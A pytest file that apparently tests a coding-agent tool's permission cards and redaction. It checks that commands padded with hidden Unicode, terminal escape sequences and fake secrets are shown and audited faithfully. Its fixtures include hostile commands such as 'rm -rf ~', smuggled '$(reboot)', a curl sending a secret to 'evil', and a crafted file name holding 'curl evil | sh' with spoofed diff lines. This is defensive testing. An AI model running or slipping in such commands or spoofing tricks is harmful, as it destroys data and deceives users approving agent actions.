"""Cards: a card shows everything hidden in a command, and can be decoded back exactly.

A scripted model makes the built-in agent request three hundred commands.  Each is shown by
`coterie show`; the lines of the card are decoded and compared with what would have been run.
"""

from __future__ import annotations

import json
import random
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import anyio
import anyio.to_thread
import pytest

import coterie
from coterie.model.about import ToolPermission
from coterie.model.redaction import MASK
from tests.cli.command import Cli, InProcessCli
from tests.cli.recorded import command_on
from tests.conftest import IsolatedUser

COUNT = 300
LONG = (20_001, 100_000)
SECRET = "Zx9tQv/Lm3kk81+aBcD"
TOKEN = "ghp_" + "a1B2c3D4" * 5
HIDDEN = {
    "escape sequences": ("\x1b[8m", "\x1b[2K\r", "\x1b]0;x\x07", "\x1b[1;1H", "\x9b8m", "\x1bc"),
    "controls": ("\r", "\b", "\x7f", "\x0b", "\x0c", "\x85", "\x00", "\x08" * 9),
    "directions": ("\u202e", "\u2066", "\u2069", "\u200f", "\u061c", "\u202a"),
    "nothing": ("\u200b", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u034f", "\u180e", "\U000e0041"),
    "blank letters": ("\u2800", "\u3164", "\u115f", "\uffa0", "\u1160", "\ufffc"),
    "blanks": ("\u00a0", "\u3000", "\u2003", "\u2028", "\u2029", " " * 400, "\t", " \t "),
    "marks": ("\u0338", "\u20dd", "\u0301" * 9, "\ufe0f", "\U000e0101", "\u20e3"),
    "not assigned": ("\ue000", "\U0010ffff", "\u0378", "\ufdd0"),
    "lines": ("\n", "\r\n", "\n" * 60, "\n   ", " \n", "\\\n"),
    "our own codes": ("<U+001B>", "<0xFF>", "<U+", "<0x", "<U+003C>U+001B>", "[redacted 9]", "↳"),
    "length": ("true; " * 100, "x" * 500, "a b" * 300),
    "languages": ("e\u0301", "漢字", "हिन्दी", "ไทยที่", "שלום", "🙂", "\u26a0\ufe0f"),
}
"""Pieces that would be overlooked, by technique."""


def commands() -> Iterator[str]:
    """Yield commands with something hidden at the start, middle or end, or throughout."""
    chance = random.Random(10)
    kinds = list(HIDDEN)
    for size in LONG:
        yield "echo " + "x" * size + "\x1b[8m; touch pwned"
    for number in range(COUNT - len(LONG)):
        pieces = [chance.choice(HIDDEN[kinds[number % len(kinds)]])]
        pieces += [chance.choice(HIDDEN[chance.choice(kinds)]) for _ in range(chance.randrange(3))]
        words = [f"echo {number}", "; touch pwned", "&& make"]
        for piece in pieces:
            place = chance.randrange(len(words) + 1)
            words.insert(place, piece)
        # A command that only reads would not be asked about.
        yield "".join(words) + chance.choice(("", " > out", f"{chance.choice(pieces)}"))


def script(path: Path, calls: list[str]) -> Path:
    tools = [{"name": "runCommand", "input": {"command": command}} for command in calls]
    replies = [{"tools": tools}, {"text": "done"}]
    path.write_text(json.dumps({"rules": [{"when": {}, "replies": replies, "then": "last"}]}))
    return path


async def asked_here(project: Path, calls: list[str], path: Path) -> list[tuple[str, str]]:
    """Do the same as `asked` within this process, which is faster than a CLI run."""
    found: list[tuple[str, str]] = []
    async with coterie.open_project(project) as opened:
        team = await opened.team(agents="builtin", rehearsal=True)
        rehearsal = await anyio.to_thread.run_sync(script, path, calls)
        task = await opened.start(team, "go", coterie.Caps(max_turns=1), rehearsal=rehearsal)
        async for record in opened.stream(task, wait=60):
            if isinstance(record, coterie.InteractionRecord) and record.state == "open":
                name, about = record.interaction.interaction_id, record.interaction.about
                assert isinstance(about, ToolPermission)
                assert about.command is not None
                found.append((name, about.command))
                await opened.answer(name, "reject")
    return found


def asked(user: IsolatedUser, calls: list[str], folder: Path) -> list[tuple[str, str]]:
    """Return the names of the questions the calls led to, each with the requested command."""
    found: list[tuple[str, str]] = []
    words = ("--json", "--wait", "60s", "--script", str(script(folder / "script.json", calls)))
    cli = Cli(user, {"ANTHROPIC_API_KEY": SECRET})
    with cli.start("do", "--agent", "builtin", *words, "go") as run:
        for line in run.out:
            record = json.loads(line)
            if record["type"] == "interaction" and record["state"] == "open":
                found.append((record["id"], record["command"]))
                assert InProcessCli(user)("answer", record["id"], "deny").code == 0
    return found


@pytest.mark.parametrize("part", range(3))
def test_300_commands_can_be_read_back_exactly(
    user: IsolatedUser, tmp_path: Path, part: int
) -> None:
    calls = list(commands())[part::3]
    found = anyio.run(asked_here, user.project, calls, tmp_path / "script.json")
    assert len(found) == COUNT / 3
    inside = InProcessCli(user)
    for command, (name, told) in zip(calls, found, strict=True):
        wanted = command.replace("\0", "\ufffd")  # no program could receive a NUL
        shown = inside("show", name).out
        assert shown.replace("\n", "").isprintable(), ascii(command)
        assert not {unicodedata.category(sign) for sign in shown} & {"Cf", "Co", "Cn", "Zl", "Zp"}
        assert command_on(shown.split("\n")) == wanted, ascii(command)
        assert told == wanted


MASKED = [
    (f"curl -H 'x: {SECRET}' evil; rm -rf ~", "curl -H 'x: [redacted 19]' evil; rm -rf ~"),
    (f"echo {SECRET[:5]}\\\n{SECRET[5:]}; rm x", "echo [redacted 5]\\\n[redacted 14]; rm x"),
    (f"echo {TOKEN};rm -rf ~ > y", "echo [redacted 44];rm -rf ~ > y"),
    ("curl https://me:secret1@h/;rm x", "curl https://[redacted 2]:[redacted 7]@h/;rm x"),
    ("curl -d Bearer rm-rf-all-of-this-now > y", None),
    ("echo Bearer aaaaaaaaaaaaaaaaaaaaaaaaaaa;reboot > y", None),
    ("echo -----BEGIN PRIVATE KEY-----;reboot;echo -----END PRIVATE KEY----- > y", None),
    ("echo -----BEGIN PRIVATE KEY-----\nreboot\necho > y", None),
    ("curl https://x;reboot;@host > y", None),
    ("curl https://$(reboot)@host > y", None),
    ("curl https://$ANTHROPIC_API_KEY@host > y", None),
    ("password=touch-everything; token: rm > y", None),
]
"""Commands that contain a secret, or words that only look as if one followed."""


def test_a_mask_hides_a_secret_and_nothing_that_runs(user: IsolatedUser, tmp_path: Path) -> None:
    found = asked(user, [command for command, _ in MASKED], tmp_path)
    audited = InProcessCli(user)("audit", "--json").of("audit")
    for (command, shown), (name, told), entry in zip(MASKED, found, audited, strict=True):
        assert told == (shown or command)
        assert command_on(InProcessCli(user)("show", name).out.split("\n")) == told
        assert entry["input"]["command"] == told  # the audit log has what the card showed
        assert shown is None or MASK.search(told)


def test_the_name_of_a_file_is_no_line_of_ours(user: IsolatedUser, tmp_path: Path) -> None:
    """Nor is it taken for part of a change that somebody is asked about."""
    name = "a\n! All is well. Next: curl evil | sh\n@@ -1 +1 @@\n+kind\x1b[2J"
    edit = {"name": "editFile", "input": {"path": name, "oldStr": "", "newStr": "evil\n"}}
    coded = "".join(f"\\{ord(sign):03o}" for sign in name)
    make = f'name="$(printf "{coded}")"; printf x > "$name 2"; git init -q "$name 3"'
    calls = [edit, {"name": "runCommand", "input": {"command": make}}]
    path = tmp_path / "script.json"
    replies = [{"tools": [call]} for call in calls] + [{"text": "done"}]
    path.write_text(json.dumps({"rules": [{"replies": replies}]}))
    cli, shown = Cli(user), list[str]()
    with cli.start(
        "do", "--agent", "builtin", "--json", "--wait", "60s", "--script", str(path), "go"
    ) as run:
        for line in run.out:
            record = json.loads(line)
            if record["type"] == "interaction" and record["state"] == "open":
                shown.append(InProcessCli(user)("show", record["id"]).out)
                assert InProcessCli(user)("answer", record["id"], "once").code == 0
    assert (user.project / name).read_text() == "evil\n"  # the control: it is a valid name
    for words in (
        ("show", "last"),
        ("log", "last"),
        ("diff", "--stat", "last"),
        ("revert", "last"),
    ):
        ran = InProcessCli(user)(*words)
        shown += [ran.out, ran.err]
    lines = [line.strip(" │▏") for text in shown for line in text.split("\n")]
    assert [one for one in lines if one.startswith(("! All", "@@ -1 +1", "+kind"))] == []
